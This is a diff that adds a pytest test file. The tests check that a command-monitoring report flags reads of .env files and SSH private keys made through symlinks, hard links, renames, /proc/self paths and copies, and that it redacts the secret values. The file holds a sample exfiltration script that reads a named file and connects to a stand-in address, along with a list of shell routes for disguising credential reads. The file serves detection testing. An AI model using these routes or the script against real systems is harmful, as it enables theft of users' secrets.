@@ -1,0 +1,83 @@
+"""A credential read by any other name is a credential read (issue 13 §2).
+
+The command reads `.env` or an ssh key through a symlink, a hard link, a
+rename, /proc/self/root or /proc/self/cwd, a symlinked directory, a renamed
+directory, or a copy it made, then connects out. The report must say which credential
+was read (matched by what was opened, not by the name the command passed),
+count it as read before the connection, and keep its value, which has no
+recognisable shape, out of everything it shows.
+"""
+from __future__ import annotations
+
+import json
+import os
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+
+from test_report import SECRET, go, home, repo  # noqa: F401  (fixtures)
+
+SSH_SECRET = "plainSshKeyMaterial-7c1d2e"
+PY = "/usr/bin/python3"
+
+# Reads NAME, tries to send it out, prints it.
+EXFIL = ("import socket, sys\n"
+         "data = open(sys.argv[1]).read()\n"
+         "s = socket.socket(); s.connect_ex(('203.0.113.7', 443))\n"
+         "print(data)\n")
+
+ROUTES = {
+    # id: (shell set-up, the name read, the credential as the report names it)
+    "symlink": ('ln -s "$PWD/.env" /tmp/e', "/tmp/e", ".env"),
+    "hard-link": ("ln .env h", "h", ".env"),
+    "rename": ("mv .env x", "x", ".env"),
+    "proc-self-root": ("true", "/proc/self/root{repo}/.env", ".env"),
+    "proc-self-cwd": ("true", "/proc/self/cwd/.env", ".env"),
+    "symlinked-dir": ("ln -s . d", "d/.env", ".env"),
+    "hard-link-through-symlinked-dir": ("ln -s . d && ln d/.env /tmp/h2", "/tmp/h2", ".env"),
+    "ssh-key-through-proc-self-root": ("true", "/proc/self/root{home}/.ssh/id_ed25519",
+                                       "~/.ssh/id_ed25519"),
+    # a directory holding a link to it, renamed
+    "renamed-directory": ("mkdir t && ln .env t/e && mv t t2", "t2/e", ".env"),
+    # a directory of the host's cannot be renamed in the overlay, so mv
+    # copies it: the copy holds the secret, and reading it back reads it
+    "copied-ssh-directory": ("mv ~/.ssh ~/s", "{home}/s/id_ed25519", "~/s/id_ed25519"),
+    "copied-ssh-directory-elsewhere": ("mv ~/.ssh /tmp/s", "/tmp/s/id_ed25519",
+                                       "/tmp/s/id_ed25519"),
+    "copied-file": ("cp .env /tmp/c", "/tmp/c", "/tmp/c"),
+}
+
+
+@pytest.fixture
+def key_home(home):
+    (home / ".ssh").mkdir()
+    (home / ".ssh" / "id_ed25519").write_text(SSH_SECRET + "\n")
+    return home
+
+
+@pytest.mark.parametrize("route", ROUTES)
+def test_a_credential_read_by_another_name_is_reported_and_redacted(repo, tmp_path, key_home,
+                                                                   route):
+    setup, name, cred = ROUTES[route]
+    name = name.format(repo=repo, home=key_home)
+    (repo / "exfil.py").write_text(EXFIL)
+    r = go(f"{setup} && {PY} exfil.py '{name}'", repo, tmp_path, home=key_home).report
+    kind = "dotenv" if ".env" in setup + name else "ssh-private-key"
+    assert (cred, kind) in [(p.path, p.kind.removeprefix("copied:"))
+                            for p in r.protected_reads], r.card()
+    [net] = [n for n in r.network if n.port == 443]
+    assert cred in (net.read_before or []), r.card()
+    secret = SECRET if kind == "dotenv" else SSH_SECRET
+    assert secret not in r.to_json() and secret not in r.card()
+    assert f"<redacted:{kind}>" in r.output.stdout.head
+
+
+def test_the_report_says_which_name_led_to_the_credential(repo, tmp_path, key_home):
+    r = go('ln -s "$PWD/.env" /tmp/e && cat /tmp/e && ln .env h', repo, tmp_path,
+           home=key_home).report
+    reads = {(p.path, p.op, p.via) for p in r.protected_reads}
+    assert (".env", "open", "/tmp/e") in reads and (".env", "link", "h") in reads, reads
+    assert 'credential read: ".env" (dotenv) as "/tmp/e"' in r.card() or \
+        "credential read: .env (dotenv) as /tmp/e" in r.card(), r.card()
